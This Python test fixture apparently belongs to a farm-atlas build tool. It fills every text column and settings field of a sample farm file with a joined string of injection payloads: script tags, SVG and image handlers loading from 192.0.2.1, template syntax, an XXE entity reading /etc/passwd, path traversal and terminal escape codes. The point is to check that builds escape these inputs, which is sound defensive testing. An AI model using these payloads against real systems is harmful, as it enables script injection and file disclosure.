"""A farm file and settings made by someone who means harm: every text they can hold is an attempt to be run,
fetched or obeyed where it is shown. A text column or a settings text that is new must be given a place here."""

from __future__ import annotations

import sqlite3
import types
from collections.abc import Iterator
from contextlib import closing, contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, get_args, get_origin

import small_farm
from pydantic import BaseModel

from atlas import engine
from atlas.farm.history import HISTORY
from atlas.farm.schema import VECTOR_LAYERS
from atlas.settings import Settings, parse

# One text that holds them all: the address first, as it only works there, what a script would read last.
ATTEMPTS = (
    "javascript:window.ran='address'//",
    "../../../../tmp/outside",
    '"><img src=http://192.0.2.1/a.png onerror="window.ran=\'image\'">',
    "'><svg/onload=window.ran='svg'><use href=http://192.0.2.1/b.svg#x /></svg>",
    "</script><script>window.ran='script'</script><script src=http://192.0.2.1/c.js></script>",
    "</title></style></textarea></svg>--> ]]><style>@import 'http://192.0.2.1/d.css';</style>",
    '<link rel=stylesheet href=http://192.0.2.1/e.css><meta http-equiv=refresh content="0;url=http://192.0.2.1/">',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><base href=http://192.0.2.1/>',
    "{{ 7 * 7 }}{% raw %}${window.ran='template'}%(ran)s{ran}{0}",
    '#read("/etc/passwd") #panic("ran") $x$ @label \\u{202e} *bold* _it_ = head',
    "&lt;!ENTITY&gt; <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; &amp; <![CDATA[",
    "\x1b[2J\x1b]0;owned\x07\u202e\u2066\u2028\u2029 \x9b31m",
    "`;window.ran='tick'//",
    "\";window.ran='quote'//\\\";window.ran=2//",
    "';window.ran='single'//\\';window.ran=3//",
)
HOSTILE = " ".join(ATTEMPTS)
SEEN = "/tmp/outside"  # a part that is the same however it was escaped
CHOSEN = {"kind", "ground"}  # one of our own words, or the row is refused or left out: said, and shown, as such
LINKED = {("releases", "field_id"): "F01"}  # must name a field to be read at all
_NEEDED_BY_TRIGGERS = ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY")


def text_columns() -> list[tuple[str, str]]:
    """Every text that our layers have room for."""
    layers = (*VECTOR_LAYERS, HISTORY)
    return [(layer.name, name) for layer in layers for name, kind in layer.columns.items() if kind == "str"]


def write(path: Path, farms: bool = False) -> Path:
    """The small farm with two fields, all its texts hostile; where rows must differ, they begin with a number.

    With `farms` each field is of another farm, so that the atlas has what it has for several.
    """
    small_farm.write(path, fields=2)
    with sqlite3.connect(path) as db:
        for name in _NEEDED_BY_TRIGGERS:  # text columns never call them, they only have to exist
            db.create_function(name, 1, lambda _: 0)
        _another_release(db)
        _history(db)
        for table, column in text_columns():
            if column not in CHOSEN:
                numbered = column.endswith("_id") or (farms and column == "farm")
                ours = "rowid || ' ' || ?" if numbered else "?"
                db.execute(f"UPDATE {table} SET {column} = {ours}", (HOSTILE,))
        db.execute("UPDATE releases SET field_id = (SELECT field_id FROM parcels WHERE rowid = 1)")
        db.execute("UPDATE gpkg_contents SET description = ?", (HOSTILE,))
    db.close()
    return path


def settings(**more: Any) -> Settings:
    """Settings whose texts are hostile too, as a contractor might send them."""
    machine = {
        "name": HOSTILE, "track_m": 1.9, "wheelbase_m": 2.2, "cog_height_m": 0.8, "cog_ahead_m": 1.0,
        "width_m": 2.3, "mass_kg": 3000, "turn_radius_m": 4.0,
    }  # fmt: skip
    told = {
        "farm": {"name": HOSTILE, "lead_name": HOSTILE, "lead_phone": HOSTILE, "emergency_number": HOSTILE},
        "machines": {HOSTILE: machine},
        "terrain": {"source": HOSTILE, "date": HOSTILE},
        **more,
    }
    return parse(told)


# Settings texts that name something which must be there, or are one of our own words.
NAMES_OF_THINGS = {
    "farm.languages", "layers.parcels", "layers.hazards", "layers.ways_in", "layers.storms", "layers.releases",
    "layers.dem", "layers.backdrop", "columns", "shown.machine", "shown.ground", "shown.driver", "farm.time_zone",
}  # fmt: skip


def settings_texts(model: type[BaseModel] = Settings, before: str = "") -> Iterator[str]:
    """Every free text that settings have room for, dotted; tables with keys of their own as KEY."""
    for name, info in model.model_fields.items():
        here = f"{before}{name}"
        tables = [t for t in _parts(info.annotation) if isinstance(t, type) and issubclass(t, BaseModel)]
        if tables:
            key = ".KEY" if get_origin(info.annotation) is dict else ""
            for table in tables:
                yield from settings_texts(table, f"{here}{key}.")
        elif str in _parts(info.annotation):
            yield here


def _parts(note: Any) -> list[Any]:
    """A type and all it is made of; the words of a Literal are no types."""
    if get_origin(note) in (None,) and not isinstance(note, types.UnionType):
        return [note]
    return [note, *(part for inner in get_args(note) for part in _parts(inner))]


def _another_release(db: sqlite3.Connection) -> None:
    db.execute(
        "INSERT INTO releases (field_id, ground, released_by, released_at, until) "
        "VALUES ('F02', ?, '', '2026-05-02T05:00:00Z', '2026-05-09T20:00:00Z')",
        (HOSTILE,),
    )


def _history(db: sqlite3.Connection) -> None:
    """One row of what was before, of a change in the past, so that a build reads it and need not follow it."""
    columns = ", ".join(HISTORY.columns)
    db.execute(f"CREATE TABLE {HISTORY.name} (fid INTEGER PRIMARY KEY, {columns})")
    db.execute("INSERT INTO gpkg_contents (table_name, data_type) VALUES (?, 'attributes')", (HISTORY.name,))
    db.execute(f"INSERT INTO {HISTORY.name} (layer_row, changed_at) VALUES (1, '2026-05-02T05:00:00Z')")


def atlas(folder: Path, farms: bool = False) -> Path:
    """The hostile farm's atlas, built in `folder`: its second map, to which markings and storms are news."""
    out = folder / "build"
    when = datetime(2026, 5, 3, 6, 0, tzinfo=UTC)
    with TemporaryDirectory() as beside:
        tame = write(Path(beside) / "farm.gpkg", farms)
        with _changing(tame) as db:
            db.execute("DELETE FROM hazards")
            db.execute("DELETE FROM storms")
        engine.build(tame, out, settings=settings(), now=when - timedelta(days=1), jobs=1)
    engine.build(write(folder / "farm.gpkg", farms), out, settings=settings(), now=when, jobs=1)
    return out


@contextmanager
def _changing(farm: Path) -> Iterator[sqlite3.Connection]:
    """Changes by hand, with what the spatial index's triggers call."""
    with closing(sqlite3.connect(farm)) as db, db:
        for name in _NEEDED_BY_TRIGGERS:
            db.create_function(name, 1, lambda _: 0)
        yield db


def set_kind(farm: Path, kind: str) -> None:
    """Give every marking a kind that may be none of ours."""
    with _changing(farm) as db:
        db.execute("UPDATE hazards SET kind = ?", (kind,))
